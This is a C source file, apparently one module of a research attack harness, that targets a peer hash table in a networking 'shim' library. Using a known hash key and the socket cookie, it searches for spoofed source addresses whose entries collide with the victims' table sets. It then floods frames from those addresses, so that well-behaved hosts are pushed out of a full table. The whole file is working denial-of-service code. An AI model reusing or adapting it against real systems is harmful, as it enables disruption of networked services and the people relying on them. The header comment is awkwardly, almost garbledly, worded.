// SPDX-License-Identifier: MIT
/*
 * Somebody who knows the hash key, which fixedkey.so gave the library, and the socket's cookie:
 * peers whose places in the table are those of the well-behaved hosts. This file follows
 * shim/peers.h.
 */

#include "attack.h"
#include "fixedkey.h"
#include "peers.h"

/* More than the sets of all victims have places. */
enum { POOL = 1 << 13, TRIES_MAX = 1 << 27, WAYS = 3 };

static struct end pool[POOL];
static unsigned int chosen;

/* The sets, of a table that has grown to its end, in which an entry of a victim can be. */
static unsigned char *wanted;
static uint32_t last;
static struct hash_key key;

static struct names names_of(const struct end *end, uint64_t cookie)
{
	struct peer peer = { .host = end->host, .scope = 0, .port = htons(end->port) };

	return names_of_peer(&key, peer, names_salt(&key, cookie));
}

/* home_of_way() in shim/peers.c, and peers_set() of that. */
static unsigned char *set_of(struct name name, int way)
{
	static const uint64_t other[WAYS] = { 0, UINT64_C(0x9e3779b97f4a7c15),
					      UINT64_C(0xc2b2ae3d27d4eb4f) };
	uint64_t home = way ? name.hash * other[way] : name.home;

	return &wanted[(uint32_t)(home >> SETS_SHIFT) & last];
}

/* Is this peer in the way of victims, wherever it can be? */
static bool collides(const struct end *end, uint64_t cookie)
{
	struct names names = names_of(end, cookie);

	for (int way = 0; way < WAYS; way++)
		if (!*set_of(name_of_peer(&names), way))
			return false;
	return true;
}

void aim(struct attack *attack)
{
	last = (uint32_t)peers_sets(attack->peers) - 1;
	wanted = calloc(last + 1, 1);
	fixed_bytes(&key, sizeof(key));
	for (unsigned int i = 0; i < 2 * CLIENTS; i++) {
		struct end victim = { client_host(i / 2, i % 2), CLIENT_PORT };
		struct names names = names_of(&victim, attack->cookie);

		for (int way = 0; way < WAYS; way++)
			*set_of(name_of_peer(&names), way) = *set_of(name_of_host(&names), way) = 1;
	}
	for (unsigned int tries = 0; tries < TRIES_MAX && chosen < POOL; tries++) {
		struct end to = any_destination(attack), from = any_source(attack, &to);

		if (collides(&from, attack->cookie))
			pool[chosen++] = from;
	}
	if (!chosen)
		exit(1);
}

/* In a table that is full, of anybody's entries. */
void aimed(struct attack *attack, struct frame *frame)
{
	struct end to = any_destination(attack), from = pool[attack->sent % chosen];

	if (attack->sent < 4 * attack->peers)
		from = any_source(attack, &to);
	while (!IN6_IS_ADDR_V4MAPPED(&from.host) != !IN6_IS_ADDR_V4MAPPED(&to.host))
		to = any_destination(attack);
	frame_flood(attack, frame, &from, &to);
}
